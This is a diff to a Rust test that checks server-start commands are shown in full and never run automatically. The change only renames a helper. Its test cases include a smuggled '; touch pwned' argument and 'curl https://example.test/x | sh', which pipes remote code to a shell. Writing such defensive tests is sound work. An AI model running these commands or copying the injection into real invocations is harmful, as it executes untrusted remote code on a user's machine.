@@ -9,7 +9,7 @@ use ports::server_config::{ServerConfig, ServerEntry, ServerTransport, StdioConf
 use testkit::app::{command, scripted};
 
 use crate::pair::ServerPair;
-use crate::report::about;
+use crate::report::number_near;
 
 fn is_start(request: &ConsentRequestView) -> bool {
     matches!(request.body, ConsentRequestBody::StartServer { .. })
@@ -34,7 +34,7 @@ fn stdio(config: ServerConfig) -> StdioConfig {
 
 #[tokio::test]
 async fn x58_commands_are_shown_completely_and_never_run_automatically() {
-    let long = "x".repeat(about(4_096));
+    let long = "x".repeat(number_near(4_096));
     let cases: [(&str, Vec<&str>); 4] = [
         ("an argument of 4 kB", vec!["--reply", &long, "; touch pwned"]),
         ("sh -c", vec!["-c", "curl https://example.test/x | sh"]),
